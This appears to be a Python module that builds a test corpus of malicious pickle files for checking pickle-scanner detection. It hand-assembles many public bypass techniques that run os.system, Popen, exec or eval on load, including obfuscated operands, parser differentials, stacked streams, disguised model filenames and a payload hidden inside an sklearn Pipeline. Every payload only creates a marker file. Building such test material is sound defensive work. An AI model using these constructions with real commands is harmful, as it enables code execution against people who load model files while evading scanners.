"""Malicious pickles: every public family of pickle-scanner bypasses, written opcode by opcode.

Each payload only creates its marker file (``touch``, ``open(..., 'w')``). Families follow the
public advisories against picklescan, modelscan and fickling (deny-list gaps, memo and
computed ``STACK_GLOBAL`` operands, dotted names, ``_compat_pickle`` renames, frame and parser
differentials, EXT codes, stacked and broken streams); see ``README.md`` for the table.
Gadget calls that would touch the network, pip or a GUI are written but never self-checked.
"""

from __future__ import annotations

import functools
import os
import pickle
import subprocess
from collections.abc import Callable

from tests.corpus._spec import (
    DANGEROUS,
    DYNAMIC,
    MALFORMED_PAYLOAD,
    NESTED,
    PKL_ANY,
    Marker,
    Payload,
    Spec,
    mal,
)
from tests.corpus.gadgets import gadget_specs
from tests.corpus.pickle_ops import Asm, framed

EXT_OR_PAYLOAD = PKL_ANY | {"SCAN-PKL-004"}


def os_system(m: Marker, proto: int = 2) -> bytes:
    """The textbook payload, hand-assembled: ``os.system(<touch marker>)``."""
    a = Asm(text=proto == 0)
    if proto >= 2:
        a.proto(proto)
    if proto >= 4:
        return a.stack_global_of("os", "system").str_(m.shell).tuple_(1).reduce().stop().bytes()
    return a.global_("os", "system").mark().str_(m.shell).tuple_().reduce().stop().bytes()


def _dumps_system(m: Marker, proto: int) -> bytes:
    return pickle.dumps(Payload(os.system, m.shell), protocol=proto)


def _classic() -> list[Spec]:
    fam = "classic-reduce"
    specs = [
        mal(
            f"classic/posix_system_p{p}.pkl",
            fam,
            DANGEROUS,
            f"pickle.dumps of a __reduce__ returning os.system (written as posix.system), "
            f"protocol {p}",
            functools.partial(_dumps_system, proto=p),
            loader="pickle",
            quick=p in (0, 2, 4),
        )
        for p in range(6)
    ]
    specs += [
        mal(
            f"classic/os_system_hand_p{p}.pkl",
            fam,
            DANGEROUS,
            f"hand-assembled GLOBAL/STACK_GLOBAL os.system, protocol {p}",
            functools.partial(os_system, proto=p),
            loader="pickle",
        )
        for p in (0, 1, 4)
    ]
    rows: list[tuple[str, str, str, str, str]] = [
        ("nt_system", "nt", "system", "shell", "nt.system: the Windows spelling of os.system"),
        ("subprocess_popen", "subprocess", "Popen", "argv", "subprocess.Popen(argv)"),
        ("subprocess_run", "subprocess", "run", "argv", "subprocess.run(argv)"),
        ("subprocess_call", "subprocess", "call", "argv", "subprocess.call(argv)"),
        ("subprocess_check_output", "subprocess", "check_output", "argv", "check_output"),
        ("subprocess_getoutput", "subprocess", "getoutput", "shell", "subprocess.getoutput(cmd)"),
        ("os_popen", "os", "popen", "shell", "os.popen(cmd)"),
        ("posix_system", "posix", "system", "shell", "posix.system named explicitly"),
        ("builtins_exec", "builtins", "exec", "py", "builtins.exec(source)"),
        ("builtins_eval", "builtins", "eval", "eval", "builtins.eval(expression)"),
    ]
    for name, module, func, arg, note in rows:
        specs.append(
            mal(
                f"classic/{name}.pkl",
                fam,
                DANGEROUS,
                note,
                functools.partial(_call_bytes, module=module, func=func, kind=arg),
                loader="" if module == "nt" else "pickle",
                quick=name in ("subprocess_popen", "builtins_exec"),
            )
        )
    specs += [
        mal(
            "classic/builtins_open.pkl",
            fam,
            DANGEROUS,
            "builtins.open(path, 'w') creates a file",
            lambda m: Asm().proto(2).call("builtins", "open", m.path, "w").stop().bytes(),
            loader="pickle",
        ),
        mal(
            "classic/builtins_compile_exec.pkl",
            fam,
            DANGEROUS,
            "builtins.exec(builtins.compile(source)): the code object is built in the pickle",
            lambda m: (
                Asm()
                .proto(2)
                .global_("builtins", "exec")
                .call("builtins", "compile", m.py, "<p>", "exec")
                .tuple_(1)
                .reduce()
                .stop()
                .bytes()
            ),
            loader="pickle",
        ),
        mal(
            "classic/builtins_import_getattr.pkl",
            fam,
            DANGEROUS,
            "getattr(__import__('os'), 'system')(cmd): the call target is built at load time",
            lambda m: (
                Asm()
                .proto(2)
                .global_("builtins", "getattr")
                .call("builtins", "__import__", "os")
                .str_("system")
                .tuple_(2)
                .reduce()
                .push((m.shell,))
                .reduce()
                .stop()
                .bytes()
            ),
            loader="pickle",
            quick=True,
        ),
    ]
    return specs


def _call_bytes(m: Marker, module: str, func: str, kind: str) -> bytes:
    arg: object = {
        "shell": m.shell,
        "argv": m.argv,
        "py": m.py,
        "eval": f"__import__('os').system({m.shell!r})",
    }[kind]
    return Asm().proto(2).call(module, func, arg).stop().bytes()


def _compat() -> list[Spec]:
    """Protocol 0-2 names that ``_compat_pickle`` maps onto Python 3 modules at load time."""
    fam = "compat-pickle-rename"

    def text_call(module: str, name: str, arg: object) -> bytes:
        return Asm(text=True).global_(module, name).push((arg,)).reduce().stop().bytes()

    return [
        mal(
            "compat/builtin_eval_p0.pkl",
            fam,
            DANGEROUS,
            "__builtin__.eval: the Python 2 module name, renamed to builtins by the unpickler",
            lambda m: text_call("__builtin__", "eval", f"__import__('os').system({m.shell!r})"),
            loader="pickle",
            quick=True,
        ),
        mal(
            "compat/builtin_exec_p2.pkl",
            fam,
            DANGEROUS,
            "__builtin__.exec in protocol 2",
            lambda m: Asm().proto(2).call("__builtin__", "exec", m.py).stop().bytes(),
            loader="pickle",
        ),
        mal(
            "compat/commands_getoutput_p0.pkl",
            fam,
            DANGEROUS,
            "commands.getoutput: Python 2 module mapped onto subprocess",
            lambda m: text_call("commands", "getoutput", m.shell),
            loader="pickle",
        ),
        mal(
            "compat/cpickle_loads_p2.pkl",
            fam,
            NESTED,
            "cPickle.loads (mapped to pickle.loads) of an inner malicious pickle",
            lambda m: Asm().proto(2).call("cPickle", "loads", os_system(m)).stop().bytes(),
            loader="pickle",
        ),
        mal(
            "compat/copy_reg_reconstructor_popen_p2.pkl",
            fam,
            PKL_ANY,
            "copy_reg._reconstructor(Popen, Popen, argv): runs Popen.__init__ (copyreg gadget)",
            lambda m: (
                Asm()
                .proto(2)
                .global_("copy_reg", "_reconstructor")
                .mark()
                .global_("subprocess", "Popen")
                .global_("subprocess", "Popen")
                .push(m.argv)
                .tuple_()
                .reduce()
                .stop()
                .bytes()
            ),
            loader="pickle",
        ),
        mal(
            "compat/urllib2_urlopen_p2.pkl",
            fam,
            PKL_ANY,
            "urllib2.urlopen (mapped to urllib.request): exfiltration gadget, never loaded",
            lambda m: (
                Asm().proto(2).call("urllib2", "urlopen", "http://127.0.0.1:9/x").stop().bytes()
            ),
        ),
    ]


def _memo() -> list[Spec]:
    """STACK_GLOBAL operands that only a memo-tracking scanner can resolve."""
    fam = "stack-global-memo"

    def memoised(m: Marker) -> bytes:
        a = Asm().proto(4).str_("os").memoize().str_("system").memoize().pop().pop()
        return a.binget(0).binget(1).stack_global().push((m.shell,)).reduce().stop().bytes()

    def overwritten(m: Marker) -> bytes:
        a = Asm().proto(4).str_("collections").binput(0).str_("OrderedDict").binput(1)
        a.pop().pop().str_("os").binput(0).str_("system").binput(1).pop().pop()
        return a.binget(0).binget(1).stack_global().push((m.shell,)).reduce().stop().bytes()

    def long_memo(m: Marker) -> bytes:
        a = Asm().proto(4).str_("system").long_binput(70000).str_("os").long_binput(123456)
        a.pop().pop().long_binget(123456).long_binget(70000).stack_global()
        return a.push((m.shell,)).reduce().stop().bytes()

    def text_memo(m: Marker) -> bytes:
        a = Asm(text=True).str_("os").put(7).str_("system").put(3).pop().pop()
        return a.get(7).get(3).stack_global().push((m.shell,)).reduce().stop().bytes()

    def dup_memo(m: Marker) -> bytes:
        # The decoy pair is what a scanner reading "the two strings before STACK_GLOBAL" sees.
        a = Asm().proto(4).str_("os").binput(9).str_("system").binput(8).pop().pop()
        a.str_("collections").str_("OrderedDict").pop().pop().binget(9).binget(8)
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    return [
        mal(
            "memo/memoize_binget.pkl",
            fam,
            DYNAMIC,
            "module and name MEMOIZEd, popped, fetched back with BINGET (picklescan memo bug)",
            memoised,
            loader="pickle",
            quick=True,
        ),
        mal(
            "memo/memo_overwritten.pkl",
            fam,
            DYNAMIC,
            "memo slots first hold collections/OrderedDict, then are overwritten with os/system",
            overwritten,
            loader="pickle",
        ),
        mal(
            "memo/long_binget.pkl",
            fam,
            DYNAMIC,
            "LONG_BINPUT/LONG_BINGET with large indexes",
            long_memo,
            loader="pickle",
        ),
        mal(
            "memo/text_put_get.pkl",
            fam,
            DYNAMIC,
            "protocol-0 PUT/GET of V strings feeding STACK_GLOBAL (no PROTO opcode)",
            text_memo,
            loader="pickle",
        ),
        mal(
            "memo/decoy_strings_before.pkl",
            fam,
            DYNAMIC,
            "decoy benign strings right before STACK_GLOBAL; real operands come from the memo",
            dup_memo,
            loader="pickle",
        ),
    ]


def _computed() -> list[Spec]:
    """STACK_GLOBAL operands produced by a call at load time (modelscan issue 331 family)."""
    fam = "computed-global"

    def joined(m: Marker) -> bytes:
        a = Asm().proto(4)
        for word in ("os", "system"):
            a.stack_global_of("builtins", "str.join").str_("").push(list(word)).tuple_(2).reduce()
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    def rot13(m: Marker) -> bytes:
        a = Asm().proto(4)
        for word in ("bf", "flfgrz"):  # rot13 of "os", "system"
            a.call("codecs", "decode", word, "rot13", stack=True)
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    def getitem(m: Marker) -> bytes:
        a = Asm().proto(4)
        table = {"a": "os", "b": "system"}
        a.call("_operator", "getitem", table, "a", stack=True)
        a.call("_operator", "getitem", table, "b", stack=True)
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    def decoded(m: Marker) -> bytes:
        a = Asm().proto(4)
        for word in (b"os", b"system"):
            a.stack_global_of("builtins", "bytes.decode").push((word,)).reduce()
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    return [
        mal(
            "computed/str_join.pkl",
            fam,
            DYNAMIC,
            "STACK_GLOBAL('' .join(['o','s']), ...)",
            joined,
            loader="pickle",
            quick=True,
        ),
        mal(
            "computed/codecs_rot13.pkl",
            fam,
            DYNAMIC,
            "operands decoded from rot13 at load time",
            rot13,
            loader="pickle",
        ),
        mal(
            "computed/operator_getitem.pkl",
            fam,
            DYNAMIC,
            "operands looked up in a dict",
            getitem,
            loader="pickle",
        ),
        mal(
            "computed/bytes_decode.pkl",
            fam,
            DYNAMIC,
            "operands decoded from bytes constants",
            decoded,
            loader="pickle",
        ),
    ]


def _escapes() -> list[Spec]:
    """Protocol-0 STRING/UNICODE operands whose text only matches after unescaping."""
    fam = "proto0-escapes"

    def unicode_escaped(m: Marker) -> bytes:
        a = Asm(text=True).unicode_text("\\u006fs").unicode_text("\\u0073y\\u0073tem")
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    def string_escaped(m: Marker) -> bytes:
        a = Asm(text=True).string_text("'\\x6fs'").string_text("'\\x73ystem'")
        return a.stack_global().push((m.shell,)).reduce().stop().bytes()

    def escaped_args(m: Marker) -> bytes:
        escaped = "".join(f"\\x{ord(c):02x}" for c in m.shell)
        a = Asm(text=True).global_("os", "system").mark().string_text(f"'{escaped}'").tuple_()
        return a.reduce().stop().bytes()

    return [
        mal(
            "escapes/unicode_escaped_operands.pkl",
            fam,
            DYNAMIC,
            "V opcodes spelling os/system with \\u escapes, then STACK_GLOBAL",
            unicode_escaped,
            loader="pickle",
            quick=True,
        ),
        mal(
            "escapes/string_escaped_operands.pkl",
            fam,
            DYNAMIC,
            "S opcodes spelling os/system with \\x escapes, then STACK_GLOBAL",
            string_escaped,
            loader="pickle",
        ),
        mal(
            "escapes/escaped_arguments.pkl",
            fam,
            DANGEROUS,
            "GLOBAL os.system with a fully \\x-escaped S argument",
            escaped_args,
            loader="pickle",
        ),
    ]


def _objects() -> list[Spec]:
    """INST, OBJ, NEWOBJ(_EX) and BUILD: calls that are not spelled REDUCE."""

    def inst(m: Marker) -> bytes:
        return Asm(text=True).mark().str_(m.shell).inst("os", "system").stop().bytes()

    def obj(m: Marker) -> bytes:
        return Asm(text=True).mark().global_("os", "system").str_(m.shell).obj().stop().bytes()

    def inst_popen(m: Marker) -> bytes:
        return Asm(text=True).mark().push(m.argv).inst("subprocess", "Popen").stop().bytes()

    def newobj(m: Marker) -> bytes:
        a = Asm().proto(2).global_("subprocess", "Popen").push((m.argv,)).newobj()
        return a.stop().bytes()

    def newobj_ex(m: Marker) -> bytes:
        a = Asm().proto(4).stack_global_of("subprocess", "Popen").push((m.argv,))
        return a.push({"shell": False}).newobj_ex().stop().bytes()

    def setstate_gadget(m: Marker) -> bytes:
        # BUILD looks __setstate__ up on the instance: plant os.system there, then BUILD again.
        a = Asm().proto(2).call("argparse", "Namespace").none().empty_dict()
        a.str_("__setstate__").global_("os", "system").setitem().tuple_(2).build()
        return a.str_(m.shell).build().stop().bytes()

    def state_payload(m: Marker) -> bytes:
        a = Asm().proto(2).call("collections", "OrderedDict").empty_dict().str_("weights")
        return a.call("os", "system", m.shell).setitem().build().stop().bytes()

    def popped(m: Marker) -> bytes:
        a = Asm().proto(2).call("os", "system", m.shell).pop()
        return a.push({"weights": [0.5, 1.5]}).stop().bytes()

    def pop_marked(m: Marker) -> bytes:
        a = Asm().proto(2).push({"epoch": 1}).mark().call("os", "system", m.shell)
        return a.int_(7).pop_mark().stop().bytes()

    def long_prefix(m: Marker) -> bytes:
        # 64 KiB of harmless text first: the payload sits far past any "head" a sniffer reads.
        a = Asm(text=True).str_("weights " * 8192).pop()
        return a.global_("os", "system").mark().str_(m.shell).tuple_().reduce().stop().bytes()

    def buffer_opcodes(m: Marker) -> bytes:
        a = Asm().proto(5).bytearray8(b"\x00" * 16).op(pickle.READONLY_BUFFER).pop()
        return a.stack_global_of("os", "system").push((m.shell,)).reduce().stop().bytes()

    fam = "inst-obj-build"
    return [
        mal(
            "objects/long_prefix_string.pkl",
            "payload-far-from-start",
            DANGEROUS,
            "protocol-0 pickle: a 64 KiB string constant, popped, then the payload",
            long_prefix,
            loader="pickle",
        ),
        mal(
            "objects/protocol5_buffer_opcodes.pkl",
            "payload-far-from-start",
            DANGEROUS,
            "BYTEARRAY8 + READONLY_BUFFER (protocol-5 buffer opcodes) before the payload",
            buffer_opcodes,
            loader="pickle",
        ),
        mal(
            "objects/result_popped.pkl",
            "discarded-result",
            DANGEROUS,
            "REDUCE result thrown away with POP before a benign object (fickling AST gap)",
            popped,
            loader="pickle",
            quick=True,
        ),
        mal(
            "objects/result_pop_marked.pkl",
            "discarded-result",
            DANGEROUS,
            "payload between MARK and POP_MARK: discarded, but it already ran",
            pop_marked,
            loader="pickle",
        ),
        mal(
            "objects/inst_os_system.pkl",
            fam,
            DANGEROUS,
            "INST os system: calls os.system(*args)",
            inst,
            loader="pickle",
            quick=True,
        ),
        mal(
            "objects/obj_os_system.pkl",
            fam,
            DANGEROUS,
            "OBJ with os.system as the class",
            obj,
            loader="pickle",
        ),
        mal(
            "objects/inst_subprocess_popen.pkl",
            fam,
            DANGEROUS,
            "INST subprocess Popen(argv)",
            inst_popen,
            loader="pickle",
        ),
        mal(
            "objects/newobj_popen.pkl",
            fam,
            DANGEROUS,
            "NEWOBJ on subprocess.Popen (class of a dangerous type instantiated)",
            newobj,
        ),
        mal(
            "objects/newobj_ex_popen.pkl",
            fam,
            DANGEROUS,
            "NEWOBJ_EX on subprocess.Popen",
            newobj_ex,
        ),
        mal(
            "objects/build_setstate_gadget.pkl",
            fam,
            PKL_ANY,
            "argparse.Namespace gets an instance __setstate__ = os.system, a 2nd BUILD calls it",
            setstate_gadget,
            loader="pickle",
            quick=True,
        ),
        mal(
            "objects/ordereddict_state_payload.pkl",
            fam,
            DANGEROUS,
            "allowed collections.OrderedDict whose BUILD state holds a REDUCE of os.system",
            state_payload,
            loader="pickle",
        ),
    ]


def _broken() -> list[Spec]:
    """Payload first, then damage: the unpickler has already run it when it hits the error."""
    fam = "broken-after-payload"

    def payload(proto: int = 2) -> Asm:
        return Asm().proto(proto)

    def with_tail(tail: bytes) -> Callable[[Marker], bytes]:
        return lambda m: payload().call("os", "system", m.shell).raw(tail).bytes()

    rows = [
        ("garbage_tail", b"\xde\xad\xbe\xefgarbage", "REDUCE then garbage bytes"),
        ("truncated_opcode", b"X\xe8\x03\x00\x00abc", "truncated BINUNICODE (1000 declared)"),
        ("missing_stop", b"", "no STOP opcode: stream ends after the payload"),
        ("bad_opcode", b"\xff\xfe", "invalid opcode byte after the payload"),
        ("stack_underflow", b"000.", "POPs past the bottom of the stack, then STOP"),
        ("bad_protocol_after", b"\x80\x09.", "PROTO 9 after the payload"),
        ("unmatched_mark", b"(.", "MARK never closed before STOP"),
    ]
    return [
        mal(
            f"broken/{name}.pkl",
            fam,
            MALFORMED_PAYLOAD,
            f"payload then {note}",
            with_tail(tail),
            loader="pickle",
            quick=name == "garbage_tail",
        )
        for name, tail, note in rows
    ]


def _frames() -> list[Spec]:
    """FRAME opcodes whose lengths disagree with the opcodes inside them."""
    fam = "frame-divergence"

    def body(m: Marker) -> bytes:
        return Asm().stack_global_of("os", "system").str_(m.shell).tuple_(1).reduce().stop().bytes()

    def split(m: Marker) -> bytes:
        inner = body(m)
        cut = inner.index(b"system") + 3  # the frame ends inside the 'system' operand
        return Asm().proto(4).bytes() + framed(inner[:cut]) + inner[cut:]

    def nested(m: Marker) -> bytes:
        inner = body(m)
        nested_body = framed(inner[:5]) + inner[5:]
        return Asm().proto(4).bytes() + framed(nested_body)

    def too_long(m: Marker) -> bytes:
        inner = body(m)
        return Asm().proto(4).bytes() + inner[:-1] + framed(b"", declared=2**40) + b"."

    def proto2_frame(m: Marker) -> bytes:
        return Asm().proto(2).bytes() + framed(body(m))

    def short_frame(m: Marker) -> bytes:
        inner = body(m)
        first = inner.index(b"\x93")  # the frame holds only the two operands
        return Asm().proto(4).bytes() + framed(inner[:first]) + inner[first:]

    return [
        mal(
            "frames/opcode_spans_frames.pkl",
            fam,
            MALFORMED_PAYLOAD,
            "frame ends inside an operand: the C unpickler reads on, _Unframer refuses",
            split,
            loader="pickle",
            quick=True,
        ),
        mal(
            "frames/nested_frame.pkl",
            fam,
            MALFORMED_PAYLOAD,
            "FRAME inside a FRAME: the C unpickler accepts it, the Python one does not",
            nested,
            loader="pickle",
        ),
        mal(
            "frames/frame_past_eof.pkl",
            fam,
            MALFORMED_PAYLOAD,
            "payload, then a FRAME declaring 1 TiB (a scanner reading it whole runs out)",
            too_long,
            loader="pickle",
        ),
        mal(
            "frames/frame_in_protocol2.pkl",
            fam,
            DANGEROUS,
            "FRAME in a protocol-2 stream: legal for the unpickler",
            proto2_frame,
            loader="pickle",
        ),
        mal(
            "frames/payload_after_frame.pkl",
            fam,
            MALFORMED_PAYLOAD,
            "the frame ends after the operands; STACK_GLOBAL and REDUCE follow unframed",
            short_frame,
            loader="pickle",
        ),
    ]


def _ext_and_persid() -> list[Spec]:
    def ext(code: int) -> Callable[[Marker], bytes]:
        return lambda m: Asm().proto(2).ext(code).push((m.shell,)).reduce().stop().bytes()

    def registered(m: Marker) -> bytes:
        a = Asm().proto(2).call("copyreg", "add_extension", "os", "system", 0xF0).pop()
        return a.ext(0xF0).push((m.shell,)).reduce().stop().bytes()

    def persid_payload(m: Marker) -> bytes:
        a = Asm().proto(2).mark().str_("storage").call("os", "system", m.shell).tuple_()
        return a.binpersid().stop().bytes()

    def persid_callable(m: Marker) -> bytes:
        return Asm().proto(2).global_("os", "system").binpersid().stop().bytes()

    def persid_text(m: Marker) -> bytes:
        a = Asm(text=True).persid("os system").pop()
        return a.global_("os", "system").mark().str_(m.shell).tuple_().reduce().stop().bytes()

    specs = [
        mal(
            f"ext/ext{n}_reduce.pkl",
            "ext-opcode",
            frozenset({"SCAN-PKL-004"}),
            f"EXT{n} code resolved through the copyreg registry, then REDUCE",
            ext(code),
        )
        for n, code in ((1, 1), (2, 0x1234), (4, 0x12345678))
    ]
    return [
        *specs,
        mal(
            "ext/ext_registered_in_pickle.pkl",
            "ext-opcode",
            EXT_OR_PAYLOAD,
            "copyreg.add_extension('os','system',240) in the pickle, then EXT1 240 + REDUCE",
            registered,
            loader="pickle",
            quick=True,
        ),
        mal(
            "persid/binpersid_payload_in_id.pkl",
            "persistent-id",
            PKL_ANY,
            "BINPERSID whose id tuple is built by a REDUCE of os.system",
            persid_payload,
            loader="pickle",
            quick=True,
        ),
        mal(
            "persid/binpersid_callable_id.pkl",
            "persistent-id",
            DANGEROUS,
            "BINPERSID with the os.system function itself as the id",
            persid_callable,
        ),
        mal(
            "persid/persid_text_then_payload.pkl",
            "persistent-id",
            DANGEROUS,
            "PERSID with an odd text id, followed by a payload",
            persid_text,
        ),
    ]


def _stacked_and_disguised() -> list[Spec]:
    def stacked(m: Marker) -> bytes:
        return pickle.dumps({"epoch": 3, "loss": 0.25}, protocol=2) + os_system(m, 2)

    def stacked_many(m: Marker) -> bytes:
        benign = b"".join(pickle.dumps([i, float(i)], protocol=4) for i in range(10))
        return benign + os_system(m, 4)

    disguised = [
        ("notes.txt", 0, "protocol-0 pickle named .txt (CVE-2025-1889 family)"),
        ("cat.jpg", 4, "pickle named .jpg"),
        ("model.safetensors", 2, "pickle named .safetensors"),
        ("config.json", 0, "protocol-0 pickle named .json"),
        ("weights.npy", 2, "pickle named .npy: numpy.load(allow_pickle=True) falls back to it"),
        ("pytorch_model.bin", 2, "raw pickle named like a torch checkpoint (CVE-2025-10155)"),
    ]
    return [
        mal(
            "stacked/benign_then_malicious.pkl",
            "stacked-pickles",
            PKL_ANY,
            "a benign pickle, then a malicious one in the same file",
            stacked,
            loader="pickle-all",
            quick=True,
        ),
        mal(
            "stacked/ten_benign_then_malicious.pkl",
            "stacked-pickles",
            PKL_ANY,
            "ten benign pickles, the 11th is malicious",
            stacked_many,
            loader="pickle-all",
        ),
        *(
            mal(
                f"disguised/{name}",
                "disguised-extension",
                DANGEROUS,
                note,
                functools.partial(os_system, proto=proto),
                loader="pickle",
                quick=name == "cat.jpg",
            )
            for name, proto, note in disguised
        ),
    ]


def _sklearn_injected(m: Marker) -> bytes:
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    from tests.corpus.benign import tiny_xy

    x, y = tiny_xy()
    pipe = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression())]).fit(x, y)
    pipe.named_steps["clf"].class_weight = {0: 1.0, 1: [0.5, {"note": Payload(os.system, m.shell)}]}
    return pickle.dumps(pipe, protocol=4)


def _sklearn_popen(m: Marker) -> bytes:
    return pickle.dumps({"model": "ok", "hook": Payload(subprocess.Popen, m.argv)}, protocol=5)


def specs() -> list[Spec]:
    """Every malicious pickle-level spec (containers and other formats live elsewhere)."""
    return [
        *_classic(),
        *_compat(),
        *_memo(),
        *_computed(),
        *_escapes(),
        *_objects(),
        *_broken(),
        *_frames(),
        *_ext_and_persid(),
        *_stacked_and_disguised(),
        *gadget_specs(),
        mal(
            "objects/sklearn_pipeline_injected.pkl",
            "payload-in-allowed-state",
            DANGEROUS,
            "real sklearn Pipeline, os.system hidden in a list in a dict in class_weight",
            _sklearn_injected,
            loader="pickle",
            needs=("sklearn",),
            quick=True,
        ),
        mal(
            "objects/protocol5_dict_popen.pkl",
            "payload-in-allowed-state",
            DANGEROUS,
            "protocol-5 dict whose value is a Popen call",
            _sklearn_popen,
            loader="pickle",
        ),
    ]
